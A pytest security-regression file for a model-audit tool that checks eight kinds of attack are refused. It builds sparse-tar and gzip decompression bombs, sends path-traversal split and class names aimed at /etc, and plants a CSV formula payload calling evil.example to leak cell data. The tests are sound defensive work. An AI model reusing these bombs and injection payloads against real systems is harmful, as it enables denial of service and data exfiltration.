"""The trust boundary, second pass (issue 25): the eight attacks that got through the first pass, each tried again
for real — archives that would exhaust memory, split names that leave the allowed sources, one origin per model
version, figure text interpreted as mathtext, a publish that fails, JSON numbers past what Python or SQL hold,
spreadsheet formulas in the history's CSV, and a ``python:`` spec naming a callable its module only imported.
Each is one ``error:`` line or a 4xx with nothing stored, with its memory bounded where memory was the attack."""

from __future__ import annotations

import csv
import io
import os
import stat
import tarfile
import textwrap
import tracemalloc
from pathlib import Path

import numpy as np
import pytest
from PIL import Image

from test_boundary import Receiver, assert_refused, generic, version_created, world  # noqa: F401
from xich.cli import main
from xich.engine.datasets import open_dataset
from xich.errors import XichError
from xich.hooks.receiver import GENERIC
from xich.records.db import AuditRequest, AuditRun, HookDelivery, ModelVersion, make_engine

from sqlalchemy import select
from sqlalchemy.orm import Session

FAST = ["--model", "python:toy_nets:brightness", "--clusters", "2", "--mosaics-per-pair", "2", "--normalize", "none",
        "--no-control", "--device", "cpu"]


def png(level: int) -> bytes:
    out = io.BytesIO()
    Image.fromarray(np.full((32, 32, 3), level, dtype=np.uint8)).save(out, format="PNG")
    return out.getvalue()


def add(tar: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def image_tar(path: Path, extra: dict[str, bytes] | None = None, mode: str = "w") -> Path:
    """``test/{cat,dog}/*.png`` (four 32×32 images a class) and ``extra`` members, in a tarball."""
    with tarfile.open(path, mode, format=tarfile.GNU_FORMAT) as tar:
        for c, cls in enumerate(("cat", "dog")):
            for k in range(4):
                add(tar, f"test/{cls}/{k}.png", png(40 * c + 10 * k))
        for name, data in (extra or {}).items():
            add(tar, name, data)
    return path


def make_sparse(path: Path, member: str, declared: int) -> None:
    """Turn ``member`` (512 stored bytes) of the plain tarball ``path`` into an old-GNU sparse member that expands to
    ``declared`` bytes: its 512 bytes at the end, holes before (what ``tar --sparse`` writes for a file of holes)."""
    with tarfile.open(path) as tar:
        offset = tar.getmember(member).offset
    raw = bytearray(path.read_bytes())
    header = raw[offset:offset + 512]
    octal = lambda n: f"{n:011o}\0".encode()  # noqa: E731  (a 12-byte tar number)
    header[156:157] = b"S"  # GNUTYPE_SPARSE
    header[386:410] = octal(declared - 512) + octal(512)  # one data region: its offset and length
    header[482:483] = b"\0"  # no extension header
    header[483:495] = octal(declared)  # the real size
    header[148:156] = b" " * 8
    header[148:156] = f"{sum(header):06o}\0 ".encode()
    raw[offset:offset + 512] = header
    path.write_bytes(bytes(raw))


def one_error_line(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and "Traceback" not in err, err
    return lines[0]


# --- 1: archives ------------------------------------------------------------------------------------------

SPARSE_BYTES = 2 << 30  # 2 GiB of holes in a 30 KB file


def test_a_sparse_member_of_2_gib_is_refused_from_its_header_with_memory_bounded(tmp_path, capsys):
    """Issue 25 #1: a 30 KB tarball holding a 2 GiB sparse ``junk/x/y.png``, audited with ``--classes cat,dog``: one
    error line naming the archive and the cap, and no more than a few MB allocated (today: 2 GiB read whole)."""
    tar = image_tar(tmp_path / "sparse2.tar", {"junk/x/y.png": b"\0" * 512})
    make_sparse(tar, "junk/x/y.png", SPARSE_BYTES)
    assert tar.stat().st_size < 40_000
    with tarfile.open(tar) as t:  # what every tar reader sees: a sparse member of 2 GiB
        junk = t.getmember("junk/x/y.png")
        assert junk.issparse() and junk.size == SPARSE_BYTES
    tracemalloc.start()
    try:
        code = main(["audit", "--data", str(tar), "--classes", "cat,dog", "--train-split", "", "--no-db", *FAST])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    line = one_error_line(capsys.readouterr().err)
    assert code == 2
    assert str(tar) in line and "junk/x/y.png" in line and "XICH_ARCHIVE_MEMBER_MAX_BYTES" in line, line
    assert peak < 64 << 20, f"{peak / 2**20:.0f} MiB allocated"


def test_sparse_links_and_devices_are_refused_whatever_their_size(tmp_path):
    tar = image_tar(tmp_path / "small-sparse.tar", {"test/cat/holes.png": b"\0" * 512})
    make_sparse(tar, "test/cat/holes.png", 4096)
    with pytest.raises(XichError, match=r"member test/cat/holes.png is a sparse file"):
        open_dataset(str(tar), "test", None).splits["test"].images
    for kind, name, what in ((tarfile.SYMTYPE, "test/cat/link.png", "a symbolic link"),
                             (tarfile.LNKTYPE, "test/dog/hard.png", "a hard link"),
                             (tarfile.CHRTYPE, "test/dog/zero.png", "a device")):
        path = image_tar(tmp_path / f"{kind.decode()}.tar")
        with tarfile.open(path, "a") as t:
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, "/dev/zero" if kind != tarfile.LNKTYPE else "test/cat/0.png"
            t.addfile(info)
        with pytest.raises(XichError, match=f"member {name} is {what}; an archive dataset holds regular files"):
            open_dataset(str(path), "test", None).splits["test"].images


@pytest.mark.parametrize("env, members, cap", [
    # a gzip bomb of one member: 3 MiB of zeros (a few KB compressed) against a 2 MiB cap a member
    ({"XICH_ARCHIVE_MEMBER_MAX_BYTES": str(2 << 20)}, {"test/cat/bomb.png": 3 << 20}, "XICH_ARCHIVE_MEMBER_MAX_BYTES"),
    # a bomb of many members within the member cap: 8 × 1 MiB of zeros against a 4 MiB cap in all
    ({"XICH_ARCHIVE_MAX_BYTES": str(4 << 20)}, {f"test/dog/z{i}.png": 1 << 20 for i in range(8)},
     "XICH_ARCHIVE_MAX_BYTES"),
])
def test_a_gzip_bomb_is_stopped_by_the_same_caps(tmp_path, monkeypatch, capsys, env, members, cap):
    tar = image_tar(tmp_path / "bomb.tar.gz", {name: bytes(size) for name, size in members.items()}, mode="w:gz")
    assert tar.stat().st_size < 100_000
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    tracemalloc.start()
    try:
        code = main(["audit", "--data", str(tar), "--train-split", "", "--no-db", *FAST])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    line = one_error_line(capsys.readouterr().err)
    assert code == 2 and str(tar) in line and cap in line, line
    assert peak < 16 << 20, f"{peak / 2**20:.0f} MiB allocated"


def test_only_the_splits_and_classes_asked_for_are_held(tmp_path):
    """A split the audit does not name is skipped unread; a class it does not ask for is hashed (the dataset's
    fingerprint covers every image of its splits) in chunks and let go, so memory holds only what is audited."""
    big = 24 << 20
    noise = np.random.default_rng(0).integers(0, 256, big, dtype=np.uint8).tobytes()
    tar = image_tar(tmp_path / "splits.tar", {"train/cat/big.png": noise, "test/dog/big.png": noise})
    tracemalloc.start()
    try:
        ds = open_dataset(str(tar), "test", None, classes=("cat",))
        split = ds.splits["test"]
        assert ds.classes == ["cat", "dog"] and "dog/big.png" in split.images["dog"]
        cats = split.load(split.images["cat"], 32)
        hashes = split.content_hashes()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < big // 2, f"{peak / 2**20:.0f} MiB allocated"
    assert cats.shape == (4, 3, 32, 32)
    import hashlib

    assert hashes["dog/big.png"] == hashlib.sha256(noise).hexdigest()  # the same identity as before, unread
    assert hashes["cat/0.png"] == hashlib.sha256(png(0)).hexdigest()
    assert split.read("dog/0.png").shape == (32, 32, 3)  # a class not asked for can still be read (again)
    full = open_dataset(str(tar), "test", None)  # the fingerprint does not depend on the classes asked for
    assert full.splits["test"].content_hashes() == hashes


def test_archive_caps_are_settings_with_bounds(monkeypatch, capsys):
    from xich.settings import get_settings

    assert get_settings().data_limits() == {"max_side_factor": 16, "archive_member_max_bytes": 64 << 20,
                                            "archive_max_bytes": 4 << 30}
    monkeypatch.setenv("XICH_ARCHIVE_MAX_BYTES", "10")
    assert main(["history", "--model", "m"]) == 2
    assert "XICH_ARCHIVE_MAX_BYTES: expected a number greater than or equal to 1048576" in capsys.readouterr().err


# --- 2: split and class names that would leave the allowed sources ------------------------------------------

class Probe:
    """Every folder listed or file opened under ``root`` while on (Python's audit events; an audit hook cannot be
    removed, so it stays installed, idle, after the test)."""

    installed: list[Probe] = []

    def __init__(self, root: Path):
        self.root, self.seen, self.on = str(root), [], False
        if not Probe.installed:
            import sys

            sys.addaudithook(lambda event, args: [p._event(event, args) for p in Probe.installed if p.on])
        Probe.installed.append(self)

    def _event(self, event: str, args: tuple) -> None:
        if event in ("os.listdir", "os.scandir", "open") and args and isinstance(args[0], (str, Path)):
            path = os.path.realpath(str(args[0]))
            if path == self.root or path.startswith(self.root + "/"):
                self.seen.append((event, path))


@pytest.mark.parametrize("settings", [
    {"eval_split": "../../../../etc", "classes": ["ssh"]},
    {"eval_split": "test", "train_split": "../../../../etc"},
    {"eval_split": "test", "classes": ["../../../../etc"]},
    {"eval_split": ".."}, {"eval_split": "."}, {"eval_split": "a\\b"}, {"eval_split": "te\u0000st"},
])
def test_a_split_or_class_that_is_a_path_is_refused_before_anything_is_listed_or_stored(world, results_db, settings):
    """Issue 25 #2: the receiver listed ``root / eval_split`` outside the allowed sources (202 when the folder
    existed, 422 when not: a probe of the host's folders), and stored the refused request. Now: 400 before the
    delivery is claimed, the same answer whether the folder exists or not, nothing listed or opened outside."""
    receiver = Receiver(world, results_db)
    outside = world["outside"]  # a folder that exists, beside the allowed root
    (outside / "ssh").mkdir()
    probe = Probe(outside)
    answers = []
    for target in ("../outside", "../no-such-folder"):
        sent = {k: (v.replace("../../../../etc", f"../../{target}") if isinstance(v, str)
                    else [c.replace("../../../../etc", f"../../{target}") for c in v]) for k, v in settings.items()}
        probe.on = True
        try:
            answer = receiver.deliver(generic(world, settings=sent), hook=GENERIC)
            tagged = receiver.deliver(version_created(str(world["root"] / "weights.pt"),
                                                      tags={"xich.settings": __import__("json").dumps(sent)}))
        finally:
            probe.on = False
        for a in (answer, tagged):
            assert_refused(receiver, a, 400, "a split or class name is one folder's name", world)
        answers.append(answer.json()["error"].replace(target, "T"))
    assert answers[0] == answers[1]  # nothing about what exists there
    assert probe.seen == []
    assert receiver.rows(HookDelivery) == [] and receiver.rows(ModelVersion) == []  # nothing stored


def test_a_path_as_a_split_is_refused_by_the_config_and_xich_register(world, results_db, monkeypatch, capsys):
    from xich.engine.config import AuditConfig

    for bad in ({"eval_split": "../etc"}, {"train_split": "a/b"}, {"classes": "cat, ../dog"}):
        with pytest.raises(XichError, match="a split or class name is one folder's name"):
            AuditConfig(model="cifar:resnet20", data="/d", **bad)
    assert AuditConfig(model="cifar:resnet20", data="/d", eval_split="val", train_split="").train_split is None
    monkeypatch.setenv("XICH_DATABASE_URL", results_db)
    code = main(["register", "--model", "m", "--version", "1", "--spec", "cifar:resnet20",
                 "--dataset", str(world["root"] / "data"), "--settings", '{"eval_split": "../../../../etc"}'])
    line = one_error_line(capsys.readouterr().err)
    assert code == 2 and "--eval-split '../../../../etc': a split or class name is one folder's name" in line, line


# --- 3: one origin per model version ----------------------------------------------------------------------

def test_an_mlflow_version_cannot_be_rewritten_by_the_generic_hook(world, results_db):
    """Issue 25 #3: the generic secret's holder replaced an MLflow version's registry metadata (which the write-back
    reads) and moved its registry time to 1999. Now 409, one line, nothing stored of the delivery."""
    receiver = Receiver(world, results_db)
    weights = str(world["root"] / "weights.pt")
    assert receiver.deliver(version_created(weights), delivery_id="mlflow-1").status_code == 202
    [before] = receiver.rows(ModelVersion)
    answer = receiver.deliver(generic(world, metadata={"note": "mine now"}, created_at="1999-01-01T00:00:00Z"),
                              hook=GENERIC, delivery_id="generic-1")
    assert answer.status_code == 409, answer.text
    error = answer.json()["error"]
    assert error == ("shapes 1 was recorded by the MLflow hook; the generic hook cannot record it again (one origin "
                     "per model version): announce it as a new version"), error
    [after] = receiver.rows(ModelVersion)
    assert after.registry_metadata == before.registry_metadata and after.registry_metadata["registry"] == "mlflow"
    assert after.registered_at == before.registered_at and after.registered_at.year == 2026
    assert [d.delivery_id for d in receiver.rows(HookDelivery)] == ["mlflow-1"]  # the refused one is not kept
    assert len(receiver.rows(AuditRequest)) == 1


def test_a_generic_version_cannot_be_rewritten_by_mlflow_and_its_time_never_moves(world, results_db, monkeypatch,
                                                                                 capsys):
    receiver = Receiver(world, results_db)
    weights = str(world["root"] / "weights.pt")
    first = receiver.deliver(generic(world, metadata={"pipeline": "ci-1"}, created_at="2026-11-28T08:00:00Z"),
                             hook=GENERIC)
    assert first.status_code == 202, first.text
    answer = receiver.deliver(version_created(weights), delivery_id="mlflow-late")
    assert answer.status_code == 409 and "was recorded by the generic hook; the MLflow hook cannot" in answer.text
    # the same origin may announce it again, but its registry time is set once
    again = receiver.deliver(generic(world, metadata={"pipeline": "ci-2"}, created_at="1999-01-01T00:00:00Z"),
                             hook=GENERIC)
    assert again.status_code == 202, again.text  # no run serves it yet: started again
    monkeypatch.setenv("XICH_DATABASE_URL", results_db)
    assert main(["register", "--model", "shapes", "--version", "1", "--spec", "cifar:resnet20", "--weights", weights,
                 "--dataset", str(world["root"] / "data"), "--settings", '{"classes": ["cat"], "clusters": 3}',
                 "--version-created-at", "1998-01-01T00:00:00Z"]) == 0, capsys.readouterr().err
    [mv] = receiver.rows(ModelVersion)
    assert mv.registered_at.date().isoformat() == "2026-11-28"
    assert mv.registry_metadata == {"hook": "generic", "sender": {"pipeline": "ci-2"}}
    assert "mlflow-late" not in [d.delivery_id for d in receiver.rows(HookDelivery)]


# --- 5: JSON numbers ---------------------------------------------------------------------------------------

def test_integers_past_the_digit_limit_and_infinite_numbers_are_400(world, results_db, monkeypatch, capsys):
    """Issue 25 #5 and #6: a 5,001-digit seed was a 500 with a traceback (Python's int-digit limit), ``1e999`` was
    stored as Infinity (which SQLite's json_extract then calls malformed)."""
    receiver = Receiver(world, results_db)
    big = "1" + "0" * 5000
    for body, rule in (
            (b'{"model": "shapes", "version": "1", "weights_uri": null, "settings": {"seed": ' + big.encode() + b"}}",
             "an integer of 5001 digits"),
            (b'{"model": "shapes", "version": "1", "weights_uri": null, "metadata": {"a": 1e999, "b": 1}}',
             "the number 1e999 is beyond a 64-bit float"),
            (b'{"model": "shapes", "version": "1", "weights_uri": null, "metadata": {"b": -1e999}}',
             "the number -1e999 is beyond a 64-bit float")):
        answer = receiver.deliver(hook=GENERIC, body=body)
        assert_refused(receiver, answer, 400, rule, world)
        assert "\n" not in answer.json()["error"]
    assert receiver.rows(HookDelivery) == [] and receiver.rows(ModelVersion) == []
    monkeypatch.setenv("XICH_DATABASE_URL", results_db)
    for flag, value, rule in (("--settings", '{"seed": %s}' % big, "--settings: an integer of 5001 digits"),
                              ("--registry-metadata", '{"a": 1e999}', "--registry-metadata: the number 1e999")):
        code = main(["register", "--model", "m", "--version", "1", "--spec", "cifar:resnet20",
                     "--dataset", str(world["root"] / "data"), flag, value])
        line = one_error_line(capsys.readouterr().err)
        assert code == 2 and rule in line, line


# --- 8: python: specs ---------------------------------------------------------------------------------------

def test_a_python_spec_names_only_a_callable_defined_in_its_module(tmp_path, monkeypatch):
    """Issue 25 #8: ``python:M:<attr>`` called any callable attribute of M, also one M only imported (``os.system``
    from ``from os import system``)."""
    from xich.engine.models import build_model

    (tmp_path / "xich_test_reexports.py").write_text(textwrap.dedent("""
        from os import system
        from toy_nets import brightness


        def own(num_classes=1):
            return brightness(num_classes)
    """))
    monkeypatch.syspath_prepend(str(tmp_path))
    assert build_model("python:xich_test_reexports:own", 3).head.out_features == 3
    for attr, origin in (("brightness", "toy_nets"), ("system", "posix")):
        with pytest.raises(XichError, match=f"{attr} is not defined in xich_test_reexports \\(it comes from {origin}\\)"):
            build_model(f"python:xich_test_reexports:{attr}", 3)


# --- 4 and 7: figure text, a publish that fails, the history's CSV --------------------------------------------

MATH = "a$\\nosuchcmd{$b"  # a class folder name matplotlib's mathtext cannot parse


@pytest.fixture
def math_data(tmp_path) -> Path:
    for split, n in (("test", 4), ("train", 4)):
        for c, cls in enumerate((MATH, "plain")):
            (tmp_path / "data" / split / cls).mkdir(parents=True)
            for k in range(n):
                (tmp_path / "data" / split / cls / f"{k}.png").write_bytes(png(60 * c + 20 * k))
    return tmp_path / "data"


def run_row(url: str) -> AuditRun:
    engine = make_engine(url)
    try:
        with Session(engine) as session:
            [run] = session.scalars(select(AuditRun))
            return run
    finally:
        engine.dispose()


def test_names_in_figures_are_text_and_a_failed_publish_leaves_no_complete_run(math_data, tmp_path, monkeypatch,
                                                                               capsys, one_torch_thread):
    """Issue 25 #4: a class folder named ``a$\\nosuchcmd{$b`` crashed the report's figures after the whole audit,
    leaving a complete run and an empty store. Now the figures print the name as it is; and a publish that really
    fails (the store's ``runs`` is a file, not a folder) leaves the run failed, and the next audit publishes it."""
    url = f"sqlite:///{tmp_path / 'xich.db'}"
    store = tmp_path / "store"
    store.mkdir()
    (store / "runs").write_text("in the way")  # every put under runs/ fails
    monkeypatch.setenv("XICH_DATABASE_URL", url)
    monkeypatch.setenv("XICH_STORE_URL", str(store))
    args = ["audit", "--data", str(math_data), "--report", str(tmp_path / "report"), "--model-version",
            '=HYPERLINK("http://evil.example/?x="&A1,"v1")', "--model-name", "m", *FAST]
    assert main(args) == 2
    line = one_error_line(capsys.readouterr().err)
    assert "is computed and stored, but its report or document could not be published" in line, line
    assert "run the same audit again to publish it" in line
    run = run_row(url)
    assert run.status == "failed" and run.error.startswith("not published: ")
    assert (tmp_path / "report" / "index.html").is_file()  # the figures with the name in them were drawn
    (store / "runs").unlink()
    assert main(args) == 0, capsys.readouterr().err
    run = run_row(url)
    assert run.status == "complete"
    assert (store / "runs" / run.id / "audit.json").is_file()
    assert (store / "runs" / run.id / "report" / "index.html").is_file()
    # a publish retried in the same process (a flow task's retry after Unavailable) completes the run again
    from xich.records.persist import mark_published
    from xich.run.context import context
    from xich.run.publish import publishing

    with context() as ctx:
        with Session(ctx.engine) as session:
            mark_published(session=session, run_id=run.id, error="Unavailable: the store did not answer")
        assert run_row(url).status == "failed"
        with publishing(ctx, run.id):
            pass
    assert run_row(url).status == "complete" and run_row(url).error is None
    capsys.readouterr()
    # the history page draws the class name too; its CSV writes the version as text, not as a formula (#7)
    assert main(["history", "--model", "m", "--report", str(tmp_path / "history")]) == 0, capsys.readouterr().err
    capsys.readouterr()
    assert main(["history", "--model", "m", "--csv"]) == 0
    out = capsys.readouterr().out
    table = list(csv.reader(io.StringIO(out)))
    header, rows = table[0], table[1:]
    assert rows and {r[header.index("model_version")] for r in rows} == {"'" + args[args.index("--model-version") + 1]}
    assert {r[header.index("class_name")] for r in rows} == {MATH, "plain"}
    for column in ("score", "rank", "train_share", "eval_size", "mean_logit"):  # numbers stay numbers
        assert all(float(r[header.index(column)]) == float(r[header.index(column)]) for r in rows), column


def test_csv_cells_that_start_like_a_formula_become_text_and_numbers_stay_numbers():
    from xich.records.history import csv_row

    assert csv_row(["=1+1", "+x", "-x", "@SUM(A1)", "\tx", "plain", -0.5, -3, None, "a-b"]) == \
        ["'=1+1", "'+x", "'-x", "'@SUM(A1)", "'\tx", "plain", -0.5, -3, None, "a-b"]
